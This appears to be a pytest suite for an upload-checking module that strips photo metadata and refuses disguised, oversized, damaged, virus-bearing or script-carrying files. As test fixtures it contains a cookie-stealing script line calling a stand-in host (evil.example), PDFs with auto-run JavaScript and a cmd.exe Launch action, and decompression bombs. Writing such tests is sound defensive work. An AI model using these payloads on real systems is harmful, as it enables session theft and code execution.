"""Post-upload evidence checks (R9), no AWS: every attack file goes through the real inspection and the real
scanner adapter, talking clamd's protocol over TCP to the local clamd simulator."""

from __future__ import annotations

import importlib.util
import socket
from io import BytesIO

import pytest
from PIL import Image

from chalicelib.adapters.clamav import ClamdScanner
from chalicelib.core.ports import ScanFailed
from chalicelib.evidence import EvidenceRejected, inspect, sniff
from infra.local.clamd import start_clamd
from tests.evidence_files import (
    EICAR,
    GPS_IFD,
    jpeg,
    jpeg_declaring,
    minimal_pdf,
    png,
    png_bomb,
    written_pdf,
)

ALL = ["image/jpeg", "image/png", "application/pdf"]
MB5 = 5 * 1024 * 1024


@pytest.fixture(scope="module")
def scanner():
    host, port, stop = start_clamd(port=0)
    yield ClamdScanner(host, port, timeout=5)
    stop()


def refused(data: bytes, scanner, allowed: list[str] = ALL, max_bytes: int = MB5) -> EvidenceRejected:
    with pytest.raises(EvidenceRejected) as caught:
        inspect(data, allowed=allowed, max_bytes=max_bytes, scanner=scanner)
    problem = caught.value
    assert problem.message_id and problem.message_en and problem.message_id != problem.message_en
    return problem


# --- photos: cleaned, not just checked ----------------------------------------------------------------------------

def test_a_phone_photo_loses_its_location_and_stays_upright(scanner):
    original = jpeg(64, 32, gps=True, orientation=6)  # stored landscape, shown rotated 90° clockwise
    with Image.open(BytesIO(original)) as before:
        assert before.getexif().get_ifd(GPS_IFD)  # the test photo really carries a location

    accepted = inspect(original, allowed=ALL, max_bytes=MB5, scanner=scanner)

    assert accepted.content_type == "image/jpeg"
    assert (accepted.width, accepted.height) == (32, 64)
    with Image.open(BytesIO(accepted.data)) as after:
        assert after.size == (32, 64)
        assert not after.getexif()  # no GPS, no orientation left to apply twice
        assert "exif" not in after.info
        top, bottom = after.convert("RGB").getpixel((16, 4)), after.convert("RGB").getpixel((16, 60))
    assert top[0] > 150 > top[2] and bottom[2] > 150 > bottom[0]  # the red half went to the top, as displayed
    assert b"Exif" not in accepted.data


def test_png_text_and_colour_profile_are_dropped(scanner):
    icc = b"\0" * 128  # content is irrelevant: only whether it survives
    original = png(text={"Comment": "Jl. Medan Merdeka Barat 12, Gambir"}, icc=icc)
    assert b"Medan Merdeka" in original

    accepted = inspect(original, allowed=ALL, max_bytes=MB5, scanner=scanner)

    assert accepted.content_type == "image/png"
    assert b"Medan Merdeka" not in accepted.data
    with Image.open(BytesIO(accepted.data)) as after:
        assert not after.text and "icc_profile" not in after.info
        assert after.size == (48, 32)


def test_anything_hidden_after_the_image_data_is_not_kept(scanner):
    payload = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
    accepted = inspect(jpeg(comment=b"hidden note") + payload, allowed=ALL, max_bytes=MB5, scanner=scanner)
    assert payload not in accepted.data and b"hidden note" not in accepted.data


def test_a_cleaned_photo_is_no_larger_than_the_one_sent(scanner):
    buffer = BytesIO()
    Image.effect_noise((600, 400), 50).convert("RGB").save(buffer, "JPEG", quality=60)  # grainy, saved low
    original = buffer.getvalue()
    accepted = inspect(original, allowed=ALL, max_bytes=len(original), scanner=scanner)
    assert accepted.size <= len(original)


@pytest.mark.parametrize(("mode", "kind"), [
    ("1", "PNG"), ("L", "PNG"), ("LA", "PNG"), ("P", "PNG"), ("RGBA", "PNG"), ("I;16", "PNG"),
    ("L", "JPEG"), ("CMYK", "JPEG"),
])
def test_genuine_images_of_every_common_kind_are_accepted(scanner, mode, kind):
    buffer = BytesIO()
    image = Image.new(mode, (30, 20))
    if mode == "P":
        image.info["transparency"] = 0  # a GIF-style transparent colour: kept as real transparency
    image.save(buffer, kind)
    accepted = inspect(buffer.getvalue(), allowed=ALL, max_bytes=MB5, scanner=scanner)
    assert (accepted.width, accepted.height) == (30, 20)
    with Image.open(BytesIO(accepted.data)) as after:
        assert after.format == kind
        if mode == "P":
            assert after.convert("RGBA").getpixel((0, 0))[3] == 0


def test_accepted_carries_the_facts_of_the_stored_bytes(scanner):
    import hashlib

    accepted = inspect(png(), allowed=ALL, max_bytes=MB5, scanner=scanner)
    assert accepted.size == len(accepted.data)
    assert accepted.sha256 == hashlib.sha256(accepted.data).hexdigest()
    assert accepted.pages is None


# --- types ------------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("content", [
    b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",  # sent as image/jpeg, named foto.jpg
    b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200),  # a Windows program named ktp.pdf
    b"PK\x03\x04" + bytes(100),  # a ZIP archive
    b"GIF89a" + bytes(50),  # a real image of a kind not asked for
])
def test_a_file_that_lies_about_its_type_is_refused(scanner, content):
    problem = refused(content, scanner)
    assert problem.code == "file_type_fake"
    assert problem.message_id == ("Berkas ini bukan JPEG, PNG, atau PDF meskipun namanya begitu. "
                                  "Unggah foto atau PDF aslinya.")


def test_the_message_names_only_what_this_document_takes(scanner):
    problem = refused(b"<html></html>", scanner, allowed=["application/pdf"])
    assert problem.message_id == "Berkas ini bukan PDF meskipun namanya begitu. Unggah PDF aslinya."


def test_a_png_renamed_pdf_is_refused_where_only_pdf_is_asked(scanner):
    problem = refused(png(), scanner, allowed=["application/pdf"])
    assert problem.code == "file_type_not_allowed"
    assert "sebenarnya PNG" in problem.message_id and "harus PDF" in problem.message_id


def test_a_png_renamed_pdf_is_taken_as_the_png_it_is_where_png_is_allowed(scanner):
    accepted = inspect(png(), allowed=ALL, max_bytes=MB5, scanner=scanner)
    assert accepted.content_type == "image/png"


@pytest.mark.parametrize(("head", "kind"), [
    (b"\xff\xd8\xff\xe0", "image/jpeg"),
    (b"\x89PNG\r\n\x1a\n", "image/png"),
    (b"%PDF-1.4\n", "application/pdf"),
    (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "image/heic"),
    (b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic", "image/heic"),
    (b"\0\0\0\x14ftypmif1\0\0\0\0mif1", "image/heif"),
    (b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf", None),  # AVIF shares the container, not the codec
    (b"\0\0\0\x18ftypisom\0\0\0\0isomiso2", None),  # an MP4 video
    (b"<html>%PDF-1.4", None),  # a PDF signature not at the start: a polyglot
])
def test_the_real_type_comes_from_the_first_bytes(head, kind):
    assert sniff(head + bytes(32)) == kind


def test_heic_is_refused_clearly_when_it_cannot_be_decoded(scanner):
    if importlib.util.find_spec("pillow_heif"):
        pytest.skip("pillow-heif is installed here: HEIC photos are decoded")
    heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(64)
    problem = refused(heic, scanner, allowed=[*ALL, "image/heic"])
    assert problem.code == "heic_unsupported" and "HEIC" in problem.message_id


def test_heic_where_the_document_does_not_take_it(scanner):
    problem = refused(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(64), scanner)
    assert problem.code == "file_type_not_allowed" and "sebenarnya HEIC" in problem.message_id


# --- sizes and bombs -----------------------------------------------------------------------------------------------

def test_an_oversized_file_is_refused_with_the_limit(scanner):
    problem = refused(b"%PDF-1.7\n" + bytes(MB5), scanner)
    assert problem.code == "file_too_large"
    assert "5 MB" in problem.message_id and "5 MB" in problem.message_en


def test_the_size_limit_is_inclusive(scanner):
    data = png()
    assert inspect(data, allowed=ALL, max_bytes=len(data), scanner=scanner).content_type == "image/png"
    assert refused(data, scanner, max_bytes=len(data) - 1).code == "file_too_large"


def test_an_empty_file_is_refused(scanner):
    assert refused(b"", scanner).code == "file_empty"


@pytest.mark.parametrize("bomb", [
    png_bomb(60_000, 60_000),  # 3.6 gigapixels declared in a file of under 100 bytes
    png_bomb(10_000, 10_000, real=True),  # 100 megapixels whose data really inflates that far
    jpeg_declaring(60_000, 60_000),
], ids=["png-header", "png-inflating", "jpeg-header"])
def test_a_decompression_bomb_is_refused_before_decoding(scanner, bomb):
    assert len(bomb) < 64 * 1024
    problem = refused(bomb, scanner)
    assert problem.code == "image_too_large"
    assert "megapiksel" in problem.message_id


def test_the_bomb_message_says_how_large_the_image_claims_to_be(scanner):
    assert "60000 × 60000 piksel" in refused(png_bomb(60_000, 60_000), scanner).message_id


@pytest.mark.parametrize("damaged", [
    png()[:60],  # cut short inside the image data
    jpeg()[:200],
    b"\xff\xd8\xff\xe0" + bytes(300),
    b"\x89PNG\r\n\x1a\n" + bytes(300),
])
def test_a_damaged_image_is_refused(scanner, damaged):
    assert refused(damaged, scanner).code == "image_unreadable"


# --- PDFs -------------------------------------------------------------------------------------------------------------

def test_a_good_pdf_is_kept_byte_for_byte(scanner):
    original = written_pdf(pages=3)
    accepted = inspect(original, allowed=ALL, max_bytes=MB5, scanner=scanner)
    assert accepted.data == original
    assert (accepted.content_type, accepted.pages, accepted.width) == ("application/pdf", 3, None)


def test_a_hand_written_pdf_passes(scanner):
    assert inspect(minimal_pdf(), allowed=ALL, max_bytes=MB5, scanner=scanner).pages == 1


@pytest.mark.parametrize("hostile", [
    minimal_pdf(catalog=b"/OpenAction 5 0 R",
                extra=(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('PISAO'\\);) >>",)),
    minimal_pdf(catalog=b"/OpenAction 5 0 R",  # the same, with names spelt in #xx escapes
                extra=(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",)),
    minimal_pdf(catalog=b"/Names << /JavaScript 5 0 R >>",
                extra=(b"<< /Names [(init) << /S /JavaScript /JS (this.print\\(\\)) >>] >>",)),
    minimal_pdf(page=b"/AA << /O << /S /JavaScript /JS 5 0 R >> >>",
                extra=(b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",)),
    minimal_pdf(catalog=b"/OpenAction << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>"),  # a script, no /JavaScript
    minimal_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) /NewWindow true >>"),
    minimal_pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>",
                extra=(b"<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>",
                       b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")),
    minimal_pdf(catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>",
                extra=(b"<< /Length 8 >>\nstream\n<xdp:xdp\nendstream",)),
], ids=["openaction-js", "escaped-names", "names-js", "page-open-js", "rendition-js", "launch", "embedded-file", "xfa"])
def test_a_pdf_with_active_content_is_refused(scanner, hostile):
    problem = refused(hostile, scanner)
    assert problem.code == "pdf_active_content"
    assert "skrip" in problem.message_id


def test_js_in_an_object_no_page_refers_to_is_still_found(scanner):
    orphan = minimal_pdf(extra=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",))
    assert refused(orphan, scanner).code == "pdf_active_content"


@pytest.mark.parametrize("damaged", [
    written_pdf(pages=3)[: len(written_pdf(pages=3)) // 2],  # a download cut short
    b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",  # garbage with a PDF's first and last line
    minimal_pdf().replace(b"/Type /Pages /Kids [3 0 R] /Count 1", b"/Type /Pages /Kids [] /Count 0"),  # no pages
], ids=["truncated", "garbage", "no-pages"])
def test_a_damaged_pdf_is_refused(scanner, damaged):
    assert refused(damaged, scanner).code == "pdf_damaged"


def test_a_password_protected_pdf_is_refused(scanner):
    problem = refused(written_pdf(pages=1, user_password="rahasia", owner_password="pemilik"), scanner)
    assert problem.code == "pdf_encrypted"
    assert problem.message_id.startswith("PDF terkunci kata sandi")


def test_a_pdf_locked_only_against_editing_opens_and_is_accepted(scanner):
    locked = written_pdf(pages=2, user_password="", owner_password="pemilik")
    assert inspect(locked, allowed=ALL, max_bytes=MB5, scanner=scanner).pages == 2


# --- viruses ---------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("content", "allowed"), [
    (EICAR, ["application/pdf"]),  # EICAR named surat.pdf
    (EICAR, ["image/jpeg"]),  # EICAR named foto.jpg
    (written_pdf(pages=1) + b"\n" + EICAR, ALL),  # inside an otherwise good PDF
], ids=["as-pdf", "as-jpg", "inside-pdf"])
def test_eicar_is_refused_as_a_virus_whatever_it_is_named(scanner, content, allowed):
    problem = refused(content, scanner, allowed=allowed)
    assert problem.code == "file_infected"
    assert problem.message_id.startswith(
        "Berkas terdeteksi mengandung virus (Eicar-Test-Signature) dan tidak disimpan.")


def test_a_signature_split_across_stream_chunks_is_found(scanner):
    data = b"A" * (64 * 1024 - 20) + EICAR + b"B" * 100_000  # the adapter sends 64 KiB chunks
    assert scanner.scan(data) == "Eicar-Test-Signature"
    assert scanner.scan(b"B" * 200_000) is None


def test_when_the_scanner_is_unreachable_the_file_is_not_judged(scanner):
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    down = ClamdScanner("127.0.0.1", port, timeout=2)
    with pytest.raises(ScanFailed):
        inspect(png(), allowed=ALL, max_bytes=MB5, scanner=down)


def test_without_a_configured_scanner_nothing_passes():
    with pytest.raises(ScanFailed):
        ClamdScanner("", 3310).scan(png())


def test_a_stream_clamd_refuses_is_an_error_not_a_clean_verdict():
    host, port, stop = start_clamd(port=0, max_length=1000)
    try:
        with pytest.raises(ScanFailed, match="size limit"):
            ClamdScanner(host, port, timeout=5).scan(bytes(5000))
    finally:
        stop()
